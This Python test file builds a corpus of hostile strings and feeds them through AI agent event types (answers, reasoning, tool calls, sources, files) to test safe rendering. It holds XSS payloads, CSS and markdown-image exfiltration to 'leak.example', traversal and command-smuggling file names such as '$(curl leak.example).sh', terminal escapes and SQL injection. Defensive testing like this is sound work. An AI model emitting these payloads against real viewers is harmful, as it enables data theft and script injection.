r"""What a model, a tool or a file may say to harm its reader: strings for every place where a run shows text.

    python tests/hostile.py OUT.json

`CORPUS` has them by family, each once. A script in them calls alert(), what loads anything names leak.example. Those of `LARGE` are hostile by their size.
"""

# ruff: noqa: E501  what is hostile is not wrapped

from __future__ import annotations

import base64
import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

_HTML = r'''
<script>alert(1)</script>
<SCRIPT SRC=https://leak.example/xss.js></SCRIPT>
<ScRiPt>alert(1)</sCrIpT>
<script/src=data:,alert(1)></script>
<script>alert(1)//
<script type=module>import "https://leak.example/m.js"</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script\x20type="text/javascript">alert(1);</script>
<script\x0Dtype="text/javascript">alert(1);</script>
<script ~~~>alert(1)</script ~~~>
</script><script>alert(1)</script>
'><script>alert(1)</script>
"><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'-alert(1)-'
";alert(1);//
<img src=x onerror=alert(1)>
<img src=x onerror="&#97;lert(1)">
<img src=x onerror=alert`1`>
<img src=x:alert(1) onerror=eval(src)>
<img """><script>alert(1)</script>">
<IMG SRC=javascript:alert(1)>
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC=`javascript:alert("1")`>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)>
<IMG SRC="jav	ascript:alert(1);">
<IMG SRC="jav&#x09;ascript:alert(1);">
<IMG SRC=" &#14; javascript:alert(1);">
<IMG DYNSRC="javascript:alert(1)">
<IMG LOWSRC="javascript:alert(1)">
<img srcset="https://leak.example/a.png 1x, https://leak.example/b.png 2x">
<img src=https://leak.example/a.png>
<img/src="https://leak.example/a.png"/onload=alert(1)>
<image src=x onerror=alert(1)>
<image href=https://leak.example/i.png>
<picture><source srcset=https://leak.example/p.png><img></picture>
<body onload=alert(1)>
<BODY BACKGROUND="https://leak.example/bg.png">
<body onscroll=alert(1)><br><br><br><input autofocus>
<BGSOUND SRC="https://leak.example/s.wav">
<LAYER SRC="https://leak.example/l.html"></LAYER>
<LINK REL="stylesheet" HREF="https://leak.example/l.css">
<link rel=prefetch href=https://leak.example/p>
<link rel=dns-prefetch href=//leak.example>
<link rel=import href=data:text/html,<script>alert(1)</script>>
<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">
<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://leak.example/m">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="https://leak.example/">
<base target=_self><a href=/api>x</a>
<IFRAME SRC="javascript:alert(1);"></IFRAME>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>
<iframe/onload=alert(1)></iframe>
<iframe src=https://leak.example/f sandbox=allow-scripts></iframe>
<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>
<TABLE BACKGROUND="javascript:alert(1)">
<TABLE><TD BACKGROUND="https://leak.example/td.png">
<DIV STYLE="background-image: url(https://leak.example/d.png)">x</DIV>
<DIV STYLE="width: expression(alert(1));">x</DIV>
<div style="behavior:url(#default#time2)" onbegin=alert(1)>x</div>
<OBJECT TYPE="text/x-scriptlet" DATA="https://leak.example/o.html"></OBJECT>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object data=javascript:alert(1)>
<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+" type="image/svg+xml">
<embed src=https://leak.example/e.swf allowscriptaccess=always>
<applet code=https://leak.example/A.class></applet>
<form action=https://leak.example/f><input name=q value=secret><button>go</button></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form id=test></form><button form=test formaction=javascript:alert(1)>x</button>
<isindex type=image src=1 onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=image src=https://leak.example/i.png>
<input onblur=alert(1) autofocus><input autofocus>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<video src=https://leak.example/v.mp4 autoplay></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)//></video>
<video poster=https://leak.example/poster.png></video>
<audio src=x onerror=alert(1)></audio>
<audio src=https://leak.example/a.mp3 autoplay></audio>
<track src=https://leak.example/t.vtt>
<details open ontoggle=alert(1)><summary>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<div onmouseover=alert(1)>x</div>
<div onpointerenter=alert(1) style=position:fixed;inset:0>x</div>
<a onmouseover="alert(1)">x</a>
<b/oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</b>
<div contenteditable onbeforeinput=alert(1) autofocus>x</div>
<p tabindex=0 autofocus onfocus=alert(1)>x</p>
<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>y</button>
<xss onanimationend=alert(1) style="animation:turn 0.1s">x</xss>
<x ontransitionend=alert(1) style=transition:all>x</x>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<custom-element is=x onclick=alert(1)>x</custom-element>
<slot name=x onslotchange=alert(1)></slot>
<noembed><script>alert(1)</script></noembed>
<plaintext>everything after is text
<xmp><script>alert(1)</script></xmp>
<listing><img src=x onerror=alert(1)></listing>
<title><script>alert(1)</script></title>
<br size="&{alert('1')}">
<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->
<!--<img src="--><img src=x onerror=alert(1)//">
<comment><img src="</comment><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y SYSTEM "https://leak.example/x.dtd">]>
<! foo="><script>alert(1)</script>">
</ foo="><script>alert(1)</script>">
<? foo="><script>alert(1)</script>">
<% foo><x foo="%><script>alert(1)</script>">
<div id=main class=jp-Notebook style=display:none>hidden</div>
<div id="jp-main-dock-panel"></div>
<img name=getElementById><form name=querySelector><input name=attributes></form>
<a id=defaultView><a id=defaultView name=document href=cid:x>clobber</a></a>
<form name=body><img name=firstChild></form>
'''

_MUTATION = r"""
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></style></title></svg>
<svg><desc><style>*{}</style><img title="</desc><img src=x onerror=alert(1)>"></svg>
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><script>alert(1)</script></annotation-xml></math>
<math><mi><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></mi></math>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<select><iframe></select><img src=x onerror=alert(1)>
<table><caption><svg><title><style></style></title></svg><img src=x onerror=alert(1)></caption></table>
<p><svg><foreignObject><p><style><p title="</style><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<style><p title="</style><img src=x onerror=alert(1)>">
<a title="<!--"><b title="--><img src=x onerror=alert(1)>">
<svg><![CDATA[<image xlink:href="]]><img src=x onerror=alert(1)//"></svg>
<math href="javascript:alert(1)"><![CDATA[</math><img src=x onerror=alert(1)>]]>
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">
<dl><dt><dd><template><p><plaintext></template><img src=x onerror=alert(1)>
<b><a><b><a><b><a><table><b><a><img src=x onerror=alert(1)>
<isindex prompt="<img src=x onerror=alert(1)>">
"""

_SVG_MATHML = r"""
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script xlink:href=data:,alert(1) /></svg>
<svg><script href=https://leak.example/s.js /></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a></svg>
<svg><set attributeName=onmouseover value=alert(1)></svg>
<svg><set xlink:href=#a attributeName=href to=javascript:alert(1) /></svg>
<svg><animateTransform onbegin=alert(1) attributeName=transform></svg>
<svg><discard onbegin=alert(1)>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>
<svg><use xlink:href=https://leak.example/u.svg#x></use></svg>
<svg><image href=https://leak.example/i.png onload=alert(1)></svg>
<svg><image xlink:href="javascript:alert(1)"></svg>
<svg><feImage xlink:href=https://leak.example/f.png></feImage></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><foreignObject><body onload=alert(1)></foreignObject></svg>
<svg><style>@import url(https://leak.example/s.css);</style></svg>
<svg><style>*{background:url(https://leak.example/s.png)}</style><rect/></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<svg><filter id=f><feImage href=https://leak.example/fe.png /></filter><rect filter=url(#f) /></svg>
<svg><mask><image href=https://leak.example/mask.png /></mask></svg>
<svg><text><textPath href=https://leak.example/t.svg#p>x</textPath></text></svg>
<svg xmlns="http://www.w3.org/2000/svg" onfocusin=alert(1) tabindex=0 autofocus></svg>
<?xml-stylesheet href="javascript:alert(1)"?><svg xmlns="http://www.w3.org/2000/svg"/>
<math><maction actiontype=statusline#https://leak.example xlink:href=javascript:alert(1)>x</maction></math>
<math href="javascript:alert(1)"><mi>x</mi></math>
<math xlink:href="javascript:alert(1)">x</math>
<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>
<math><semantics><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></semantics></math>
<math><mstyle style="background:url(https://leak.example/m.png)"><mi>x</mi></mstyle></math>
<math><ms src=https://leak.example/ms.png>x</ms></math>
<math><mglyph src=https://leak.example/g.png alt=x></math>
$\href{javascript:alert(1)}{x}$
$\url{javascript:alert(1)}$
$\includegraphics{https://leak.example/g.png}$
$\htmlStyle{background:url(https://leak.example/h.png)}{x}$
$\htmlData{onclick=alert(1)}{x}$
$\htmlClass{jp-Notebook}{x}$
$\htmlId{main}{x}$
$\def\a{\a\a}\a$
$\unicode{<img src=x onerror=alert(1)>}$
$$\text{<img src=x onerror=alert(1)>}$$
$$\text{</annotation><script>alert(1)</script>}$$
$\class{x" onmouseover="alert(1)}{y}$
\(\href{javascript:alert(1)}{x}\) and \[\rule{1e9em}{1e9em}\]
$\color{red;background:url(https://leak.example/c.png)}{x}$
$\style{background:url(https://leak.example/st.png)}{x}$
"""

_CSS = r"""
<style>@import 'https://leak.example/a.css';</style>
<style>@import url(//leak.example/b.css);</style>
<style>input[value^=a]{background:url(https://leak.example/a)}</style>
<style>@font-face{font-family:x;src:url(https://leak.example/f.woff);unicode-range:U+0041}body{font-family:x}</style>
<style>:root{--x:url(https://leak.example/v)}body{background:var(--x)}</style>
<style>body{display:none!important}</style>
<style>.jp-Cell{position:fixed;inset:0;opacity:.01}</style>
<style>*{cursor:url(https://leak.example/c.cur),auto}</style>
<style>li{list-style-image:url("https://leak.example/li.png")}</style>
<style>@namespace url(https://leak.example/ns);</style>
<style>@keyframes x{from{background:url(https://leak.example/k)}}</style>
<style>a::before{content:url(https://leak.example/c.png)}</style>
<style>html{-webkit-mask:image-set("https://leak.example/m.png" 1x)}</style>
<style>@property --p{syntax:"<url>";inherits:true;initial-value:url(https://leak.example/p)}</style>
<style>@container style(--x:1){*{background:url(https://leak.example/cq)}}</style>
<style><!--</style><script>alert(1)</script>--></style>
<p style="background:url(https://leak.example/p.png)">x</p>
<p style="background:url(&quot;https://leak.example/q.png&quot;)">x</p>
<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">over everything</p>
<p style="-moz-binding:url(https://leak.example/x.xml#xss)">x</p>
<p style="content:url(https://leak.example/ct.png)">x</p>
<p style="border-image:url(https://leak.example/b.png) 30">x</p>
<p style="filter:url(https://leak.example/f.svg#a)">x</p>
<p style="offset-path:url(https://leak.example/o.svg#p)">x</p>
<p style="width:calc(1e9px);height:1e9px">huge</p>
"""

_LINKS = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#x6A;avascript:alert(1))
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](java%0ascript:alert(1))
[x](javascript://leak.example/%0aalert(1))
[x](javascript:/*-/*`/*\`/*'/*"/**/(alert(1))//)
[x](\x01javascript:alert(1))
[x](<javascript:alert(1)>)
[x](< javascript:alert(1)>)
[x](vbscript:msgbox(1))
[x](VBScript:alert(1))
[x](livescript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](DATA:text/html,alert)
[x](data:application/xhtml+xml,<script>alert(1)</script>)
[x](data:image/svg+xml,<svg/onload=alert(1)>)
[x](blob:https://leak.example/1)
[x](file:///etc/passwd)
[x](view-source:javascript:alert(1))
[x](about:blank)
[x](chrome://settings)
[x](jar:https://leak.example!/x)
[x](feed:javascript:alert(1))
[x](intent://leak.example#Intent;scheme=http;end)
[x](mhtml:https://leak.example)
[x](ms-msdt:/id)
[x](search-ms:query=x)
[x](vscode://file/etc/passwd)
[x](ftp://leak.example/x)
[x](//leak.example/protocol-relative)
[x](\\leak.example\share)
[x](/api/shutdown)
[x](../../api/kernels)
[x](?token=1)
[x](#main)
[x](https:\\leak.example)
[x](https://user:pw@leak.example/@safe.example)
[x](https://leak.example "t" onclick=alert(1))
[x](https://leak.example "\" onmouseover=alert(1) x=\"")
[x](https://leak.example 'onmouseover=alert(1)')
[a<img src=x onerror=alert(1)>](https://leak.example)
[![x](https://leak.example/in.png)](javascript:alert(1))
[x][js] and then

[js]: javascript:alert(1)
[x]

[x]: <javascript:alert(1)> "t"
<javascript:alert(1)>
<data:text/html,alert>
<https://leak.example/"onmouseover=alert(1)>
<https://leak.example/><img src=x onerror=alert(1)>
https://leak.example/"onmouseover=alert(1)
https://leak.example/'><script>alert(1)</script>
www.leak.example/<script>alert(1)</script>
javascript:alert(1)
x@leak.example"onclick=alert(1)
mailto:x@leak.example?body=<script>alert(1)</script>
[command](command:jupyterlab:shutdown)
<a href="javascript:alert(1)" download>x</a>
<a href=jav&#x0A;ascript:alert(1)>x</a>
<a href="&#14;javascript:alert(1)">x</a>
<a href="https://leak.example" ping="https://leak.example/ping">x</a>
<a href="https://leak.example" target=_top rel=opener>x</a>
<a data-commandlinker-command=kernelmenu:shutdown>x</a>
<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">run</button>
<area href=javascript:alert(1) shape=default>
<map name=m><area href=https://leak.example></map><img usemap=#m>
"""

_IMAGES = r"""
![](https://leak.example/pixel.png)
![secret](https://leak.example/?q=the-api-key)
![x](https://leak.example/a.png "title")
![x]( https://leak.example/b.png )
![x](<https://leak.example/c.png>)
![x](//leak.example/d.png)
![x](http://leak.example/e.png)
![x](HTTPS://LEAK.EXAMPLE/f.png)
![x](https://leak.example:443/g.png)
![x](https://127.1.leak.example/h.png)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
![x](data:text/html,<script>alert(1)</script>)
![x](data:image/png,<script>alert(1)</script>)
![x" onerror="alert(1)](x)
![x](x" onerror="alert(1))
![x](https://leak.example/"onerror=alert(1))
![x][p] reference

[p]: https://leak.example/reference.png
[![x](https://leak.example/badge.png)](https://leak.example)
![<img src=https://leak.example/alt.png>](https://leak.example/j.png)
![x](https://leak.example/k.png =100x100)
![x](ftp://leak.example/l.png)
![x](file:///etc/passwd)
![x](attachment:image.png)
![x](blob:https://leak.example/2)
![x](/files/secret.png)
![x](https://leak.example/a.png)![y](https://leak.example/b.png)![z](https://leak.example/c.png)
| ![x](https://leak.example/cell.png) |
|---|
- [x] ![x](https://leak.example/task.png)
> ![x](https://leak.example/quote.png)
# ![x](https://leak.example/heading.png)
~~![x](https://leak.example/del.png)~~
"""

_FENCES = r"""
```html
<script>alert(1)</script>
```
```"><img src=x onerror=alert(1)>
x
```
```js" onmouseover="alert(1)
x
```
```</code></pre><script>alert(1)</script>
x
```
``` ` <img src=x onerror=alert(1)>
`<img src=x onerror=alert(1)>`
`` ` ``<script>alert(1)</script>`` ` ``
~~~<svg/onload=alert(1)>
x
~~~
    <script>alert(1)</script>
```mermaid
click A call alert(1)
```
```svg
<svg onload=alert(1)>
```
```{raw} html
<script>alert(1)</script>
```
````
```
<script>alert(1)</script>
````
```json
{"__proto__": {"pwned": 1}}
```
"""

NAMES = [
    "../../etc/passwd",
    "..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "/etc/shadow",
    "C:\\Windows\\System32\\cmd.exe",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "file\x00.png",
    "CON",
    "NUL.txt",
    ".htaccess",
    "-rf",
    "~/.ssh/id_rsa",
    "report.pdf.exe",
    "a.png\n.exe",
    "a\r\nContent-Type: text/html",
    "invoice\u202egnp.exe",
    "\u202e\u2066fdp.exe\u2069",
    "\u200fphoto\u200e.png",
    "p\u0430ypal.com.csv",
    "\u0405\u0443\u0455tem.dll",
    "\uff0e\uff0e/\uff0e\uff0e/x",
    "a\u200bb\u200cc\u200dd.txt",
    "e\u0301" * 40 + ".txt",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319algo.txt",
    "\ufeffbom.csv",
    "x" * 300 + ".png",
    '"><img src=x onerror=alert(1)>.png',
    "'onmouseover='alert(1).png",
    "<script>alert(1)</script>.csv",
    "javascript:alert(1).html",
    "`rm -rf`.sh",
    "$(curl leak.example).sh",
    "{{7*7}}.txt",
    "${alert(1)}.txt",
    "a\u2028b\u2029c.txt",
    "|cat /etc/passwd",
    '=HYPERLINK("https://leak.example").csv',
    "👩‍👩‍👧‍👦" * 20,
    "\ud800.txt",
]

CONTROLS = [
    "\x1b[2J\x1b[1;1Hcleared",
    "\x1b]0;new title\x07",
    "\x1b]8;;https://leak.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cHduZWQ=\x07",
    "\x1b[31;1mred\x1b[0m \x1b[5mblink",
    "\x9b31mcsi \x9d0;osc\x9c",
    "\x1bP$q\x1b\\ \x1bc reset",
    "\x1b[?1049h\x1b[8;1000;1000t",
    "a\x08\x08\x08b\x7f\x00\x01",
    "over\rwritten",
    "\u202eright to left\u202c \u2067isolate\u2069",
    "a\u2028b\u2029c\u0085d",
    "\ue0001\ue001 \ue0002\ue001 forged citations",
    "\ufeff\u200b\u2060 invisible \U000e0041\U000e0042",
    "\ud83d lone \udc00 surrogates",
    "\ufffe\uffff noncharacters",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "' OR 1=1; DROP TABLE runs;--",
    "%s%s%s%n %x",
    "[^1] [[1]] [1][2] [^1]: x",
    "[ ](https://leak.example)\u00a0[\u200b](https://leak.example)",
]

LARGE = {
    "a line of 1 MB": "x[(`*_<$|~" * 100_000,
    "1 MB of one letter": "a" * 1_000_000,
    "10,000 nested lists": "- " * 10_000 + "x",
    "1,000 lists by indentation": "".join(f"{' ' * 2 * n}- x\n" for n in range(1_000)),
    "10,000 nested quotes": ">" * 10_000 + " x",
    "10,000 brackets": "[" * 10_000 + "x" + "]" * 10_000,
    "10,000 nested links": "[" * 5_000 + "x" + "](https://leak.example)" * 5_000,
    "10,000 emphases": "*a " * 10_000,
    "10,000 ticks": "".join("`" * (n % 97 + 1) + " " for n in range(1_000)),
    "a table of 2,000 columns": "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n|" + "b|" * 2_000 + "\n",
    "50,000 tags": "<b>" * 50_000,
    "5,000 entities": "&lt;img src=x onerror=alert(1)&gt;" * 5_000,
    "5,000 dollars": "$x" * 5_000,
    "1,000 definitions": "".join(f"[{n}]: javascript:alert({n})\n" for n in range(1_000)) + "[1] [999]",
    "5,000 combining marks": "a" + "\u0301" * 5_000,
}


def _blocks(text: str) -> list[str]:
    """Return the lines of a family; a definition stays with the line that uses it."""
    out: list[str] = []
    lines = iter(text.strip("\n").split("\n"))
    for line in lines:
        if not line:
            out[-1] += f"\n\n{next(lines)}"
        elif line.startswith("|---"):
            out[-1] += f"\n{line}"
        else:
            out.append(line)
    return out


def _fences(text: str) -> list[str]:
    """Return all fences together and each of their lines: what is open swallows what comes."""
    return [text.strip("\n"), *_blocks(text)]


CORPUS: dict[str, list[str]] = {
    "html": _blocks(_HTML),
    "mutation": _blocks(_MUTATION),
    "svg and mathml": _blocks(_SVG_MATHML),
    "css": _blocks(_CSS),
    "links": _blocks(_LINKS),
    "images": _blocks(_IMAGES),
    "fences": _fences(_FENCES),
    "names": NAMES,
    "controls": CONTROLS,
}
ALL = list(dict.fromkeys(text for texts in CORPUS.values() for text in texts))

Record = tuple[str, dict[str, Any]]


def told(text: str, number: int) -> Iterator[Record]:
    """Yield events, as type and fields, that say a text in every place where a run shows any.

    Parameters: number, which names the blocks, calls and questions of these events.
    """
    id = f"n{number}"
    call = {"tool_call_id": id, "tool_name": text, "executed_by": "client"}
    outputs: list[Any] = [text, [{text: text}, {text: 1}], {"deep": [text, {text: None}]}, {"result": text}]
    output = outputs[number % len(outputs)]
    yield "message_start", {}
    yield "token", {"content": f"{text}\n\n", "metadata": {"text_block_id": id}}
    yield "message_complete", {}
    yield "reasoning_start", {"metadata": {"block_id": id}}
    yield "reasoning_token", {"content": text, "metadata": {"block_id": id}}
    yield "reasoning_end", {"metadata": {"block_id": id}}
    yield "tool_call_start", {"metadata": call}
    yield "tool_call_delta", {"content": json.dumps({text: text}), "metadata": call}
    yield (
        "tool_call_complete",
        {"output": output, "metadata": {**call, "arguments": {text: text}, "status": "ok"}},
    )
    bad = {**call, "tool_call_id": f"{id}e", "status": "error", "arguments_raw": text}
    yield "tool_call_complete", {"error": text, "metadata": bad}
    safe = {
        "url": f"https://safe.example/{number}",
        "title": text,
        "start": 0,
        "end": len(text),
        "cited_text": text,
    }
    yield "source", {"metadata": {"sources": [{"url": text, "title": text, "cited_text": text}, safe]}}
    yield (
        "source",
        {"metadata": {"sources": [{"url": f"https://leak.example/{text}", "title": text, "kind": "result"}]}},
    )
    content = base64.b64encode(text.encode("utf-8", "surrogatepass")).decode()
    mime = ("image/png", text, "text/html", "image/svg+xml", "text/csv", "application/pdf", "audio/wav")
    name = {"name": text, "mime_type": mime[number % len(mime)], "content": content}
    yield "file", {"metadata": name}
    yield "custom_data", {"content": {text: text}, "metadata": {"data_type": text}}
    yield (
        "custom_data",
        {"content": {"label": text, "value": text}, "metadata": {"data_type": "data-progress"}},
    )
    yield "custom_data", {"content": {"label": text}, "metadata": {"data_type": f"data-rlm-{text}"}}
    asked = {
        "interrupt_id": id,
        "kind": "tool",
        "message": text,
        "tool_name": text,
        "arguments": {text: text},
    }
    yield "interrupt", {"metadata": asked}
    answer = {"interrupt_id": id, "decision": text if number % 2 else "denied", "by": text, "reason": text}
    yield "interrupt_resolved", {"output": text, "metadata": answer}


def sized(text: str, number: int) -> Iterator[Record]:
    """Yield events that say a long text as answer, as reasoning and as the result of a tool."""
    id = f"n{number}"
    yield "token", {"content": text, "metadata": {"text_block_id": id}}
    yield "reasoning_start", {"metadata": {"block_id": id}}
    yield "reasoning_token", {"content": text, "metadata": {"block_id": id}}
    yield "reasoning_end", {"metadata": {"block_id": id}}
    call = {"tool_call_id": id, "tool_name": "read", "executed_by": "client", "status": "ok"}
    yield "tool_call_start", {"metadata": call}
    yield "tool_call_complete", {"output": text, "metadata": call}


if __name__ == "__main__":
    said = [{"text": text, "told": list(told(text, n))} for n, text in enumerate(ALL)]
    Path(sys.argv[1]).write_text(json.dumps({"all": said, "names": NAMES, "large": LARGE}), "utf-8")
